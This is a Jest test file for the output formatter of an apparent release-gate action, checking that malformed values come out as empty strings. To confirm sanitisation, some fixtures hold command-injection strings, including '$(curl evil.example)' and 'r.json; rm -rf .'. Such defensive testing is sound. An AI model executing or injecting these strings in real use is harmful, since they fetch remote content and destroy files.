import { describe, expect, test } from '@jest/globals';
import type { Day } from '../../src/model/day.js';
import { outputNames } from '../../src/model/input.js';
import type { Report } from '../../src/model/report.js';
import { outputs } from '../../src/render/outputs.js';
import { makeReport } from '../support/make-report.js';

const reportPath = '/home/runner/_temp/release-gate.json';
const { core, calendar } = makeReport();

describe('outputs', () => {
  test('a judged report sets every output', () => {
    expect(outputs(makeReport(), reportPath)).toEqual({
      verdict: 'pass',
      compatible: 'true',
      'on-cadence': 'true',
      'core-kind': 'core-major',
      'moves-latest': 'true',
      'minimum-core': '2025.1.0',
      due: 'core-major,plugin-major',
      'next-core-major': '2025.2.0',
      'next-core-major-date': '2025-10-07',
      'next-core-bugfix-date': '2025-08-07',
      errors: '0',
      warnings: '0',
      undecided: '0',
      waived: '0',
      labels: 'release: core-major',
      'report-path': reportPath,
    });
  });

  test('what was not asked is empty', () => {
    const empty = { due: [], nextCoreMajor: null, nextCoreMajors: [], nextCoreBugfix: null };
    const report = makeReport({
      core: null,
      compatible: null,
      onCadence: null,
      minimumCore: null,
      calendar: { ...calendar, ...empty },
      labels: [],
    });
    const { verdict, errors, warnings, undecided, waived, ...others } = outputs(report, '');
    expect([verdict, errors, warnings, undecided, waived]).toEqual(['pass', '0', '0', '0', '0']);
    expect(new Set(Object.values(others))).toEqual(new Set(['']));
  });

  test('with a problem the verdict is fail, booleans are false and counts 0', () => {
    const problems = [{ message: 'x', found: '', expected: '', location: null }];
    const counts = { error: 3, warning: 3, notice: 3, undecided: 3, waived: 3 };
    expect(outputs(makeReport({ problems, counts, compatible: null }), reportPath)).toMatchObject({
      verdict: 'fail',
      compatible: 'false',
      'on-cadence': 'false',
      'moves-latest': 'false',
      errors: '0',
      warnings: '0',
      undecided: '0',
      waived: '0',
    });
  });

  const hostile = '$(curl evil.example)\n`x`;';
  const rows: readonly (readonly [string, Partial<Report>])[] = [
    ['minimum-core', { minimumCore: hostile }],
    ['next-core-major', { calendar: { ...calendar, nextCoreMajor: null } }],
    ['core-kind', { core: core && { ...core, kind: hostile as 'core-major' } }],
    ['due', { calendar: { ...calendar, due: [hostile as 'core-major'] } }],
    ['labels', { labels: [hostile] }],
    ['verdict', { verdict: hostile as 'pass' }],
  ];
  test.each(rows)('%s is empty when it does not have its form', (name, difference) => {
    expect(outputs(makeReport(difference), reportPath)).toHaveProperty([name], '');
  });

  test.each<[string, string, (value: string) => Partial<Report>]>([
    ['verdict', 'pass', (value) => ({ verdict: value as 'pass' })],
    [
      'core-kind',
      'core-major',
      (value) => ({ core: core && { ...core, kind: value as 'core-major' } }),
    ],
    ['minimum-core', '2025.10.12-rc1', (minimumCore) => ({ minimumCore })],
    ['due', 'core-major', (value) => ({ calendar: { ...calendar, due: [value as 'core-major'] } })],
    ['labels', 'gate: breaking', (value) => ({ labels: [value] })],
    [
      'next-core-major-date',
      '2025-10-07',
      (date) => ({
        calendar: { ...calendar, nextCoreMajor: { date: date as Day, version: null } },
      }),
    ],
  ])('%s is %s only when nothing stands before or after it', (name, value, given) => {
    const of = (text: string) => outputs(makeReport(given(text)), reportPath)[name as 'verdict'];
    expect([value, `${hostile} ${value}`, `${value} ${hostile}`].map(of)).toEqual([value, '', '']);
  });

  test('a count may have several digits', () => {
    const counts = { error: 12, warning: 0, notice: 0, undecided: 0, waived: 0 };
    expect(outputs(makeReport({ counts }), reportPath).errors).toBe('12');
  });

  test.each([
    ['/home/größe/_temp/r.json', '/home/größe/_temp/r.json'],
    ['D:\\a\\_temp\\r.json', 'D:\\a\\_temp\\r.json'],
    ['r.json; rm -rf .', ''],
    ['$(x).json', ''],
    ['a\nb', ''],
  ])('report-path %j is %j', (path, expected) => {
    expect(outputs(makeReport(), path)['report-path']).toBe(expected);
  });

  test('the names are those of the contract', () => {
    expect(Object.keys(outputs(makeReport(), ''))).toEqual(outputNames);
  });
});
